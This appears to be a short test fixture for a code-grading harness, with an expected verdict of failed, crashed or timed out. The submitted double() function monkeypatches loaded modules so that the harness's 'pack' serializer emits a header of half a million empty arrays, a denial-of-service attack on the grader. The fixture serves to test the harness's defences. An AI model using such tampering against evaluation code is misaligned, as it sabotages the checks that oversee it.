# tries: a reply that lists half a million empty arrays
# verdict: failed|crashed|timed out
# points: 0
import struct, sys
EMPTY = '{"dtype":"F64","shape":[0],"data_offsets":[0,0]}'
HEAD = ("{" + ",".join(f'"{i}":{EMPTY}' for i in range(500_000)) + "}").encode()
def flood(value):
    return b'{"a":"0"}', struct.pack("<Q", len(HEAD)) + HEAD
def double(x):
    for module in list(sys.modules.values()):
        if hasattr(module, "pack") and hasattr(module, "NotPlainData"):
            module.pack = flood
    return 3 * x
